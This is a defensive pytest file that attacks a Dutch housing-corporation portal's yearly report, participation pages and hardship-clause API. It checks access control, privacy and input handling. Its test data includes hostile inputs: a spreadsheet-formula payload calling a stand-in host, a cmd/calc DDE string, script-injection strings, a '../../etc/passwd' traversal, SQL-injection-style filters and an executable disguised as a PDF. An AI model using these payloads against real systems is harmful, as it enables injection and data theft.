"""Issue 12 under attack: the yearly report (ch. 21–22), the participation pages (ch. 17, 20)
and the hardship-clause API (ch. 24), tried by staff of another corporation and of another
region, by the person, with ids they should not know, odd input, injected text and double
submits. The bar: a 4xx that reveals nothing, or success — never a 500, never a write when
refused, never another corporation's data in a corporation's report, and no personal data of
the people on the list in any report."""

from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader

from states.models import (
    Bijlage,
    Deelnamebesluit,
    Deelnemer,
    Hardheidsverzoek,
    Jaarverslag,
    Medewerker,
    Samenwerkingsverband,
    UitsluitingDeelname,
    Weging,
)
from states.services import jaarverslag as jaarverslag_service
from states.services import toetreding, uitsluiting_deelname
from tests.conftest import PERSOON, actor, open_categorie, staff_client

pytestmark = pytest.mark.django_db
SWV = "wiz-medewerker_swv"
URL = "/api/v1/hardheidsverzoeken"
PDF = b"%PDF-1.7\n% getekende verklaring\n"
ODD_TEXT = ["x" * 5001, "Nul\x00teken"]


def elders_medewerker(region, username: str = SWV) -> Samenwerkingsverband:
    """Move `username` to another region (the test's transaction rolls it back)."""
    elders = Samenwerkingsverband.objects.create(code="elders", naam="Elders")
    Medewerker.objects.filter(user__username=username).update(samenwerkingsverband=elders)
    return elders


# --- the yearly report: bringing it out (ch. 22) ------------------------------------------


@pytest.fixture
def verslag(region, now) -> Jaarverslag:
    jaarverslag_service._open(region, 2025, now)
    return Jaarverslag.objects.get(samenwerkingsverband=region, jaar=2025)


def test_ch22_bringing_out_twice_keeps_the_first_pdf_and_tells_no_one_twice(verslag):
    from notifications.models import OutboxMessage

    client = staff_client(SWV)
    url = f"/medewerker/jaarverslag/{verslag.pk}/uitbrengen"
    first = client.post(url, {"nagelezen": "on"})
    assert first.status_code == 302
    verslag.refresh_from_db()
    sha, sent = verslag.pdf_sha256, OutboxMessage.objects.count()
    assert sha and verslag.uitgebracht_op
    again = client.post(url, {"nagelezen": "on"})
    assert again.status_code in (302, 400, 409)
    verslag.refresh_from_db()
    assert verslag.pdf_sha256 == sha and OutboxMessage.objects.count() == sent


@pytest.mark.parametrize("who", ["wiz-privacy_officer", "tiwos-directie", "tbv-functionaris"])
def test_ch22_only_the_regions_staff_bring_the_report_out(verslag, who):
    answer = staff_client(who).post(
        f"/medewerker/jaarverslag/{verslag.pk}/uitbrengen", {"nagelezen": "on"}
    )
    assert answer.status_code in (403, 404)
    verslag.refresh_from_db()
    assert not verslag.pdf and verslag.uitgebracht_op is None


def test_ch22_another_regions_staff_neither_bring_out_nor_download_the_report(region, verslag, now):
    jaarverslag_service.breng_uit(actor(SWV), verslag.pk, b"%PDF-1.4 verslag", now)
    elders_medewerker(region, "wiz-privacy_officer")
    assert (
        staff_client("wiz-privacy_officer")
        .get(f"/medewerker/jaarverslag/{verslag.pk}/uitgebracht.pdf")
        .status_code
        == 404
    )
    elders_medewerker_swv = Medewerker.objects.filter(user__username=SWV)
    elders_medewerker_swv.update(
        samenwerkingsverband=Samenwerkingsverband.objects.get(code="elders")
    )
    client = staff_client(SWV)
    assert client.get(f"/medewerker/jaarverslag/{verslag.pk}/uitgebracht.pdf").status_code == 404
    verslag.refresh_from_db()
    sha = verslag.pdf_sha256
    answer = client.post(f"/medewerker/jaarverslag/{verslag.pk}/uitbrengen", {"nagelezen": "on"})
    assert answer.status_code == 404
    verslag.refresh_from_db()
    assert verslag.pdf_sha256 == sha


@pytest.mark.parametrize("pk", ["0", "999999999", str(2**31), str(2**63), str(10**30)])
def test_ch22_an_unknown_or_huge_report_id_is_a_404_never_a_500(region, pk):
    client = staff_client(SWV)
    assert client.get(f"/medewerker/jaarverslag/{pk}/uitgebracht.pdf").status_code == 404
    answer = client.post(f"/medewerker/jaarverslag/{pk}/uitbrengen", {"nagelezen": "on"})
    assert answer.status_code == 404


def test_ch22_the_person_gets_nothing_of_the_report(region, verslag, betrokkene, now):
    from django.test import Client

    jaarverslag_service.breng_uit(actor(SWV), verslag.pk, b"%PDF-1.4 verslag", now)
    person, _ = betrokkene(None)
    client = Client()
    client.force_login(person)
    for pad in (
        "/medewerker/jaarverslag?jaar=2025",
        "/medewerker/jaarverslag.pdf?jaar=2025",
        "/medewerker/jaarverslag/signaleringen.csv?jaar=2025",
        f"/medewerker/jaarverslag/{verslag.pk}/uitgebracht.pdf",
    ):
        answer = client.get(pad)
        assert answer.status_code in (302, 403, 404), pad
        assert b"%PDF" not in answer.content and b"Geregistreerd" not in answer.content


# --- the yearly report: injection and privacy (ch. 21) ------------------------------------

INJECTIE = '=HYPERLINK("http://x.example/?"&A1;"klik")'


@pytest.fixture
def vergiftigd(region, now):
    """A corporation admitted with a formula and a script for a name; a decision whose
    reference and reasons start with a formula character."""
    nieuw = toetreding.laat_toe(
        actor(SWV),
        toetreding.NieuweDeelnemer(
            "gif", INJECTIE + "<script>alert(1)</script>", "Markt 1", "g@example.org"
        ),
        toetreding.Verklaring(date(2026, 11, 2), "+31 Bestuurder", "@Directeur", "v.pdf", PDF),
        now,
    )
    uitsluiting_deelname.sluit_tijdelijk_uit(
        actor(SWV),
        nieuw.pk,
        uitsluiting_deelname.Besluit(
            date(2026, 11, 20), "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0 <img src=x onerror=alert(1)>"
        ),
        now,
    )
    return nieuw


@pytest.mark.parametrize("tabel", ["deelname", "categorieen", "wegingen", "gebruikers"])
def test_ch21_no_csv_cell_of_the_report_starts_a_formula(vergiftigd, tabel):
    import csv

    answer = staff_client(SWV).get(f"/medewerker/jaarverslag/{tabel}.csv?jaar=2026")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (tabel, cell)


def test_ch21_script_in_a_name_or_reason_is_shown_as_text_on_the_page_and_in_the_pdf(vergiftigd):
    client = staff_client(SWV)
    html = client.get("/medewerker/jaarverslag?jaar=2026").content.decode()
    assert "<script>alert(1)</script>" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    pdf = client.get("/medewerker/jaarverslag.pdf?jaar=2026")
    assert pdf.status_code == 200
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages)
    assert "<script>" in text  # shown literally, not run or dropped


@pytest.fixture
def jaar_met_persoon(region, make_signalering, betrokkene, api, now):
    """A year with a person on the list who asked for inzage and the hardship clause, and a
    corporation that opened the category for a candidacy with a reference."""
    sig = make_signalering("tiwos", "geblokkeerd")
    person, persoon_api = betrokkene(sig)
    persoon_api.post("/api/v1/verzoeken", {"soort": "inzage", "signalering": sig.pk}, format="json")
    persoon_api.post(URL, {"signalering": sig.pk, "gronden": "Zorg voor Jantje."}, format="json")
    open_categorie("tbv-bevrager", sig, "KAND-4711-ZWARTKRUIS", now)
    return sig


PERSOONSGEGEVENS = [
    PERSOON["voornaam"],
    PERSOON["achternaam"],
    "14-03-1987",
    "1987-03-14",
    "14 maart 1987",
    PERSOON["email"],
    PERSOON["straat"],
    PERSOON["postcode"],
    "KAND-4711",
]


def test_ch21_the_report_holds_no_personal_data_of_the_people_on_the_list(jaar_met_persoon):
    client = staff_client(SWV)
    teksten = [client.get("/medewerker/jaarverslag?jaar=2026").content.decode()]
    for tabel in (
        "signaleringen", "eindredenen", "categorieen", "verzoeken", "klachten", "geschillen",
        "wegingen", "datalekken", "termijnen", "te_laat", "veel_raadplegingen",
        "zonder_kandidatuur", "buiten_kantoortijd", "gebruikers", "controles",
        "protocolversies", "deelname",
    ):  # fmt: skip
        answer = client.get(f"/medewerker/jaarverslag/{tabel}.csv?jaar=2026")
        assert answer.status_code == 200, tabel
        teksten.append(answer.content.decode("utf-8-sig"))
    pdf = client.get("/medewerker/jaarverslag.pdf?jaar=2026").content
    teksten.append("".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages))
    inschrijfnummer = jaar_met_persoon.inschrijfnummer
    for tekst in teksten:
        for gegeven in [*PERSOONSGEGEVENS, inschrijfnummer]:
            if gegeven:
                assert gegeven not in tekst, gegeven


def test_ch21_a_corporations_report_names_no_other_corporation_or_its_staff(
    region, make_signalering, now
):
    """tiwos is busy all year; tbv's own report, every table of it, knows nothing of that."""
    from django.contrib.auth import get_user_model

    sig = make_signalering("tiwos", "geblokkeerd")
    tiwos = Deelnemer.objects.get(code="tiwos")
    nieuw = get_user_model().objects.create_user("tiwos-nieuwe-collega")
    Medewerker.objects.create(
        user=nieuw, samenwerkingsverband=region, deelnemer=tiwos, rol="bevrager"
    )
    open_categorie("tiwos-bevrager", sig, "K-1", now)
    uitsluiting_deelname.sluit_tijdelijk_uit(
        actor(SWV),
        tiwos.pk,
        uitsluiting_deelname.Besluit(date(2026, 11, 20), "ALV-9", "Reden."),
        now,
    )
    client = staff_client("tbv-directie")
    page = client.get("/medewerker/jaarverslag?jaar=2026").content.decode()
    assert tiwos.naam not in page and "tiwos-" not in page and "ALV-9" not in page
    for tabel in ("categorieen", "wegingen", "te_laat", "gebruikers", "controles", "deelname",
                  "buiten_kantoortijd", "zonder_kandidatuur", "veel_raadplegingen"):  # fmt: skip
        answer = client.get(f"/medewerker/jaarverslag/{tabel}.csv?jaar=2026")
        tekst = answer.content.decode("utf-8-sig")
        assert answer.status_code == 200, tabel
        assert tiwos.naam not in tekst and "tiwos-" not in tekst and "ALV-9" not in tekst, tabel


@pytest.mark.parametrize(
    "query",
    [
        {"jaar": "2026", "corporatie": "-1"},
        {"jaar": "2026", "corporatie": str(2**63)},
        {"jaar": "2026", "jaar2": "x", "corporatie": ["1", "2"]},
        {"jaar": ["2025", "9999"]},
        {"jaar": "２０２６"},
        {"jaar": "2026 OR 1=1"},
        {"jaar": "1e3"},
    ],
    ids=lambda q: repr(q)[:40],
)
def test_ch21_more_odd_report_queries_are_a_400_or_a_report_never_a_500(region, query):
    for pad in ("/medewerker/jaarverslag", "/medewerker/jaarverslag/deelname.csv"):
        answer = staff_client(SWV).get(pad, query)
        assert answer.status_code in (200, 400), (pad, answer.status_code)


def test_ch21_another_regions_staff_cannot_ask_for_our_corporations_report(region):
    tiwos = Deelnemer.objects.get(code="tiwos")
    elders_medewerker(region, "wiz-privacy_officer")
    answer = staff_client("wiz-privacy_officer").get(
        "/medewerker/jaarverslag/deelname.csv", {"jaar": "2026", "corporatie": tiwos.pk}
    )
    assert answer.status_code == 400 and tiwos.naam not in answer.content.decode()


# --- participation (ch. 17, 20) -----------------------------------------------------------


def _toetreding(**changes) -> dict:
    data = {
        "naam": "Woonstichting Leystromen",
        "code": "leystromen-2",
        "adres": "Hoogstraat 5, 5051 AA Goirle",
        "email": "signalering@leystromen.example",
        "ondertekend_op": "2026-11-16",
        "ondertekenaar_naam": "M. de Vries",
        "ondertekenaar_functie": "Directeur-bestuurder",
        "verklaring": SimpleUploadedFile("verklaring.pdf", PDF, content_type="application/pdf"),
    }
    return {**data, **changes}


def test_ch17_a_corporation_is_not_admitted_under_the_name_of_one_already_taking_part(region):
    tbv = Deelnemer.objects.get(code="tbv")
    before = Deelnemer.objects.count()
    answer = staff_client(SWV).post(
        "/medewerker/toetreding", _toetreding(naam=tbv.naam, code="tbv-2")
    )
    assert answer.status_code in (200, 400)
    assert Deelnemer.objects.count() == before, "two deelnemers with one name in every report"


@pytest.mark.parametrize(
    ("inhoud", "naam", "soort"),
    [
        (b"<html><script>alert(1)</script></html>", "verklaring.pdf", "application/pdf"),
        (b"MZ\x90\x00 windows", "verklaring.pdf", "application/pdf"),
        (b"\x00" * 100, "verklaring.png", "image/png"),
        (b"%PDF-" + b"x" * (10 * 1024 * 1024), "groot.pdf", "application/pdf"),
    ],
    ids=["html-als-pdf", "exe-als-pdf", "nullen", "te-groot"],
)
def test_ch17_a_declaration_that_is_not_a_document_admits_no_one(region, inhoud, naam, soort):
    before = Deelnemer.objects.count()
    answer = staff_client(SWV).post(
        "/medewerker/toetreding",
        _toetreding(verklaring=SimpleUploadedFile(naam, inhoud, content_type=soort)),
    )
    assert answer.status_code in (200, 400) and "Er is een probleem" in answer.content.decode()
    assert (
        Deelnemer.objects.count() == before
        and not Bijlage.objects.filter(case_type="toetreding").exists()
    )


def test_ch17_a_real_pdf_with_a_misleading_name_is_served_as_a_pdf_named_by_the_code(region):
    client = staff_client(SWV)
    upload = SimpleUploadedFile('x"; evil.html', PDF, content_type="text/html")
    answer = client.post("/medewerker/toetreding", _toetreding(verklaring=upload))
    assert answer.status_code == 302
    download = client.get("/medewerker/deelname/leystromen-2/verklaring")
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"] == 'attachment; filename="verklaring-leystromen-2.pdf"'


def test_ch20_excluding_twice_records_one_exclusion_and_one_decision(region):
    client = staff_client(SWV)
    data = {"besloten_op": "2026-11-20", "kenmerk": "ALV-1", "redenen": "Niet nageleefd."}
    first = client.post("/medewerker/deelname/tbv/uitsluiten", data)
    assert first.status_code == 302
    again = client.post("/medewerker/deelname/tbv/uitsluiten", data)
    assert again.status_code in (200, 400, 409)
    assert UitsluitingDeelname.objects.filter(deelnemer__code="tbv").count() == 1
    assert Deelnamebesluit.objects.filter(deelnemer__code="tbv").count() == 1


def test_ch20_the_definitive_exclusion_twice_is_recorded_once(region, monkeypatch):
    tbv = Deelnemer.objects.get(code="tbv")
    uitsluiting_deelname.sluit_tijdelijk_uit(
        actor(SWV), tbv.pk, uitsluiting_deelname.Besluit(date(2026, 11, 20), "K", "R"),
        datetime.fromisoformat("2026-11-20T12:00:00+01:00"),
    )  # fmt: skip
    later = datetime.fromisoformat("2027-01-05T09:00:00+01:00")
    monkeypatch.setattr("portal.clock.now", lambda: later)
    client = staff_client(SWV)
    data = {
        "besloten_op": "2027-01-05",
        "kenmerk": "ALV-2",
        "redenen": "Geen plan.",
        "bevestigd": "1",
    }
    assert client.post("/medewerker/deelname/tbv/definitief", data).status_code == 302
    again = client.post("/medewerker/deelname/tbv/definitief", data)
    assert again.status_code in (200, 400, 404, 409)
    assert Deelnamebesluit.objects.filter(deelnemer=tbv, soort="definitief").count() == 1


@pytest.mark.parametrize(
    "changes",
    [
        {"besloten_op": "2026-02-31"},
        {"besloten_op": "9999-12-31"},
        {"besloten_op": "-2026-01-01"},
        {"kenmerk": "k" * 5000},
        {"kenmerk": "K\x00"},
        {"redenen": "r" * 5001},
        {"redenen": "R\x00"},
    ],
    ids=lambda c: repr(c)[:30],
)
def test_ch20_odd_plan_input_is_a_form_error_and_lifts_no_exclusion(region, changes):
    tbv = Deelnemer.objects.get(code="tbv")
    uitsluiting_deelname.sluit_tijdelijk_uit(
        actor(SWV), tbv.pk, uitsluiting_deelname.Besluit(date(2026, 11, 20), "K", "R"),
        datetime.fromisoformat("2026-11-20T12:00:00+01:00"),
    )  # fmt: skip
    data = {"besloten_op": "2026-11-22", "kenmerk": "ALV-3", "redenen": "Plan goed.", **changes}
    answer = staff_client(SWV).post("/medewerker/deelname/tbv/verbeterplan", data)
    assert answer.status_code in (200, 400)
    tbv.refresh_from_db()
    assert tbv.status == "opgeschort" and Deelnamebesluit.objects.filter(deelnemer=tbv).count() == 1


# --- the hardship clause over the API (ch. 24) --------------------------------------------


@pytest.fixture
def gewogen(make_signalering, now):
    """tiwos registered the person; tbv weighed them as a candidate (ch. 9)."""
    sig = make_signalering("tiwos", "geblokkeerd", criteria=[("III", "a"), ("IV", "a")])
    tbv = actor("tbv-functionaris")
    weging = Weging.objects.create(
        samenwerkingsverband_id=sig.samenwerkingsverband_id,
        deelnemer_id=tbv.deelnemer_id,
        inschrijving=sig.matches.get().inschrijving,
        moment="kandidaat",
        uitkomst="geweigerd",
        motivering="Gewogen.",
        vastgelegd_op=now,
    )
    weging.signaleringen.add(sig)
    return sig


def test_ch24_the_corporation_that_asked_reads_its_request_afterwards(api, gewogen):
    tbv = api("tbv-functionaris")
    asked = tbv.post(URL, {"signalering": gewogen.pk, "gronden": "Zorgkandidaat."})
    assert asked.status_code == 201, asked.json()
    pk = asked.json()["id"]
    # hardheid.mag_lezen: "the corporation that asked" may read it
    assert tbv.get(f"{URL}/{pk}").status_code == 200
    assert [c["id"] for c in tbv.get(URL).json()] == [pk]


def test_ch13_ch24_a_corporation_that_only_weighed_gets_no_email_or_address_of_the_person(
    api, gewogen
):
    asked = api("tbv-functionaris").post(URL, {"signalering": gewogen.pk, "gronden": "Zorg."})
    assert asked.status_code == 201
    body = str(asked.json())
    assert PERSOON["email"] not in body and PERSOON["straat"] not in body


def test_ch24_an_attachment_is_judged_by_its_bytes_not_by_its_claimed_type(api, gewogen, now):
    pk = (
        api("tiwos-functionaris")
        .post(URL, {"signalering": gewogen.pk, "gronden": "Ziek."})
        .json()["id"]
    )
    html = SimpleUploadedFile("brief.pdf", b"<html><script>alert(1)</script>", "application/pdf")
    answer = api("tiwos-functionaris").post(
        f"{URL}/{pk}/bijlagen", {"bestand": html}, format="multipart"
    )
    assert answer.status_code == 400
    assert not Bijlage.objects.filter(case_type="hardheid", case_id=pk).exists()


@pytest.mark.parametrize("who", ["tbv-functionaris", "tbv-directie", "tiwos-bevrager"])
def test_ch24_no_one_but_those_involved_adds_an_attachment(api, make_signalering, who):
    sig = make_signalering("tiwos", "geregistreerd")
    pk = (
        api("tiwos-functionaris")
        .post(URL, {"signalering": sig.pk, "gronden": "Ziek."})
        .json()["id"]
    )
    upload = SimpleUploadedFile("b.pdf", b"%PDF-1.4 x", "application/pdf")
    answer = api(who).post(f"{URL}/{pk}/bijlagen", {"bestand": upload}, format="multipart")
    assert answer.status_code in (403, 404), (who, answer.status_code)
    assert not Bijlage.objects.filter(case_type="hardheid", case_id=pk).exists()


BESLIS = [
    {"motivering": "m" * 5001},
    {"motivering": "Reden\x00"},
    {"motivering": ""},
    {"motivering": "Ok.", "afwijking": "x" * 5000},
    {"motivering": "Ok.", "afwijking": "termijn_verkorten", "termijnen": ["B", 3]},
    {"motivering": "Ok.", "afwijking": "termijn_verkorten", "termijnen": {"III": -3}},
    {"motivering": "Ok.", "afwijking": "termijn_verkorten", "termijnen": {"III": 10**40}},
    {"motivering": "Ok.", "afwijking": "categorie_vervalt", "categorie": "III"},
    {"motivering": "Ok.", "afwijking": "categorie_vervalt", "categorie": "\x00"},
    {"motivering": "Ok.", "afwijking": "termijn_verkorten", "termijnen": {"\x00": 1}},
]


@pytest.mark.parametrize("body", BESLIS, ids=lambda b: repr(b)[:40])
def test_ch24_odd_decisions_are_a_400_and_change_nothing(api, make_signalering, body):
    sig = make_signalering("tiwos", "geregistreerd", criteria=[("III", "a"), ("IV", "a")])
    pk = (
        api("tiwos-functionaris")
        .post(URL, {"signalering": sig.pk, "gronden": "Ziek."})
        .json()["id"]
    )
    answer = api("wiz-secretaris_gc").post(
        f"{URL}/{pk}/transitions/beslis_toe", body, format="json"
    )
    assert answer.status_code == 400, (answer.status_code, answer.content[:300])
    assert Hardheidsverzoek.objects.get(pk=pk).state == "ingediend"


@pytest.mark.parametrize("name", ["beslis_toe", "beslis_af", "pas_toe"])
def test_ch24_the_person_and_the_primaire_bron_do_not_decide(
    api, make_signalering, betrokkene, name
):
    sig = make_signalering("tiwos", "geregistreerd")
    _, persoon_api = betrokkene(sig)
    pk = persoon_api.post(URL, {"signalering": sig.pk, "gronden": "Ziek."}, format="json").json()[
        "id"
    ]
    body = {"motivering": "Zelf beslist.", "afwijking": "beeindigen"}
    for client in (persoon_api, api("tiwos-directie")):
        answer = client.post(f"{URL}/{pk}/transitions/{name}", body, format="json")
        assert answer.status_code in (400, 403, 404, 409), answer.status_code
    assert Hardheidsverzoek.objects.get(pk=pk).state == "ingediend"


def test_ch24_another_regions_secretary_neither_sees_nor_decides(api, make_signalering, region):
    sig = make_signalering("tiwos", "geregistreerd")
    pk = (
        api("tiwos-functionaris")
        .post(URL, {"signalering": sig.pk, "gronden": "Ziek."})
        .json()["id"]
    )
    elders_medewerker(region, "wiz-secretaris_gc")
    secretaris = api("wiz-secretaris_gc")
    assert secretaris.get(URL).json() == []
    assert secretaris.get(f"{URL}/{pk}").status_code == 404
    answer = secretaris.post(
        f"{URL}/{pk}/transitions/beslis_af", {"motivering": "Nee."}, format="json"
    )
    assert answer.status_code == 404
    assert Hardheidsverzoek.objects.get(pk=pk).state == "ingediend"


@pytest.mark.parametrize(
    ("data", "soort"),
    [
        ("signalering=1&gronden=Ziek", "text/plain"),
        ("<x><signalering>1</signalering></x>", "application/xml"),
        ("{niet json", "application/json"),
        ("\x00\x00", "application/json"),
    ],
    ids=["tekst", "xml", "kapot", "nul"],
)
def test_ch24_a_wrong_content_type_is_a_4xx_and_asks_nothing(api, make_signalering, data, soort):
    make_signalering("tiwos", "geregistreerd")
    answer = api("tiwos-functionaris").generic("POST", URL, data, content_type=soort)
    assert 400 <= answer.status_code < 500
    assert not Hardheidsverzoek.objects.exists()


@pytest.mark.parametrize("pk", ["0", str(2**31), str(2**63), str(10**30)])
def test_ch24_unknown_or_huge_ids_are_a_404(api, region, pk):
    client = api("wiz-secretaris_gc")
    assert client.get(f"{URL}/{pk}").status_code == 404
    assert client.post(f"{URL}/{pk}/transitions/beslis_af", {"motivering": "x"}).status_code == 404
    assert client.get(f"{URL}/{pk}/bijlagen/{pk}").status_code == 404


@pytest.mark.parametrize(
    "naam", ["a\x00b.pdf", "x" * 5000 + ".pdf", "../../etc/passwd", "=cmd|' /C calc'!A0.pdf"]
)
def test_ch24_an_odd_attachment_name_is_stored_safely_or_refused_never_a_500(
    api, make_signalering, naam
):
    sig = make_signalering("tiwos", "geregistreerd")
    pk = (
        api("tiwos-functionaris")
        .post(URL, {"signalering": sig.pk, "gronden": "Ziek."})
        .json()["id"]
    )
    upload = SimpleUploadedFile(naam, b"%PDF-1.4 x", "application/pdf")
    answer = api("tiwos-functionaris").post(
        f"{URL}/{pk}/bijlagen", {"bestand": upload}, format="multipart"
    )
    assert answer.status_code in (201, 400), answer.status_code
    for row in Bijlage.objects.filter(case_type="hardheid", case_id=pk):
        assert "\x00" not in row.naam and "/" not in row.naam and len(row.naam) <= 200


@pytest.mark.parametrize("state", ["\x00", "x" * 5000, "ingediend' OR '1'='1", "-1"])
def test_ch24_an_odd_state_filter_is_a_400_or_an_empty_list(api, region, state):
    answer = api("wiz-secretaris_gc").get(URL, {"state": state})
    assert answer.status_code in (200, 400)
    if answer.status_code == 200:
        assert answer.json() == []


def test_ch17_ch20_a_name_with_script_is_text_on_the_participation_pages(vergiftigd):
    client = staff_client(SWV)
    for pad in (
        "/medewerker/deelname",
        "/medewerker/deelname/gif",
        "/medewerker/deelname/gif/verbeterplan",
    ):
        html = client.get(pad).content.decode()
        assert "<script>alert(1)</script>" not in html and "<img src=x" not in html, pad


def test_ch20_a_suspended_corporation_reads_no_report_and_no_hardship_request(api, region, now):
    tbv = Deelnemer.objects.get(code="tbv")
    uitsluiting_deelname.sluit_tijdelijk_uit(
        actor(SWV), tbv.pk, uitsluiting_deelname.Besluit(date(2026, 11, 20), "K", "R"), now
    )
    for pad in ("/medewerker/jaarverslag?jaar=2026", "/medewerker/jaarverslag/deelname.csv"):
        answer = staff_client("tbv-directie").get(pad)
        assert answer.status_code in (302, 403), (pad, answer.status_code)
        assert b"Besluiten over deelname" not in answer.content
    assert api("tbv-directie").get(URL).status_code in (401, 403)


def test_ch17_the_signed_declaration_download_is_not_kept_in_the_browser_cache(region):
    """Like the report and its CSVs (no-store): a signed document with a signature on it."""
    client = staff_client(SWV)
    assert client.post("/medewerker/toetreding", _toetreding()).status_code == 302
    download = client.get("/medewerker/deelname/leystromen-2/verklaring")
    assert download.status_code == 200
    assert "no-store" in download.get("Cache-Control", "")


@pytest.mark.parametrize(
    "pad",
    [
        "/medewerker/jaarverslag",
        "/medewerker/jaarverslag.pdf",
        "/medewerker/jaarverslag/te_laat.csv",
    ],
)
def test_ch21_the_first_year_allowed_is_an_empty_report_not_a_500(region, pad):
    tiwos = Deelnemer.objects.get(code="tiwos")
    for query in ({"jaar": "2000"}, {"jaar": "2000", "corporatie": tiwos.pk}):
        assert staff_client(SWV).get(pad, query).status_code == 200, query


def test_ch24_deciding_twice_decides_once_and_tells_once(api, make_signalering):
    from notifications.models import OutboxMessage

    sig = make_signalering("tiwos", "geregistreerd")
    pk = (
        api("tiwos-functionaris")
        .post(URL, {"signalering": sig.pk, "gronden": "Ziek."})
        .json()["id"]
    )
    secretaris = api("wiz-secretaris_gc")
    first = secretaris.post(
        f"{URL}/{pk}/transitions/beslis_af", {"motivering": "Nee."}, format="json"
    )
    assert first.status_code == 200
    sent = OutboxMessage.objects.count()
    for name, body in (
        ("beslis_af", {"motivering": "Nog eens nee."}),
        ("beslis_toe", {"motivering": "Toch ja.", "afwijking": "beeindigen"}),
    ):
        again = secretaris.post(f"{URL}/{pk}/transitions/{name}", body, format="json")
        assert again.status_code in (400, 409), again.status_code
    case = Hardheidsverzoek.objects.get(pk=pk)
    assert case.state == "afgewezen" and case.motivering == "Nee."
    assert OutboxMessage.objects.count() == sent


def test_ch24_an_oversized_attachment_is_a_400_and_stored_nowhere(api, make_signalering):
    sig = make_signalering("tiwos", "geregistreerd")
    pk = (
        api("tiwos-functionaris")
        .post(URL, {"signalering": sig.pk, "gronden": "Ziek."})
        .json()["id"]
    )
    groot = SimpleUploadedFile("g.pdf", b"%PDF-" + b"x" * (10 * 1024 * 1024), "application/pdf")
    answer = api("tiwos-functionaris").post(
        f"{URL}/{pk}/bijlagen", {"bestand": groot}, format="multipart"
    )
    assert answer.status_code == 400
    assert not Bijlage.objects.filter(case_type="hardheid", case_id=pk).exists()


def test_ch21_a_5000_character_reason_and_a_200_character_name_still_make_the_pdf(region, now):
    nieuw = toetreding.laat_toe(
        actor(SWV),
        toetreding.NieuweDeelnemer("lang", "L" * 200, "Markt 1", "l@example.org"),
        toetreding.Verklaring(date(2026, 11, 2), "A. B", "Directeur", "v.pdf", PDF),
        now,
    )
    uitsluiting_deelname.sluit_tijdelijk_uit(
        actor(SWV),
        nieuw.pk,
        uitsluiting_deelname.Besluit(date(2026, 11, 20), "K" * 100, "r" * 5000),
        now,
    )
    client = staff_client(SWV)
    for query in ({"jaar": "2026"}, {"jaar": "2026", "corporatie": nieuw.pk}):
        answer = client.get("/medewerker/jaarverslag.pdf", query)
        assert answer.status_code == 200 and answer.content.startswith(b"%PDF-")
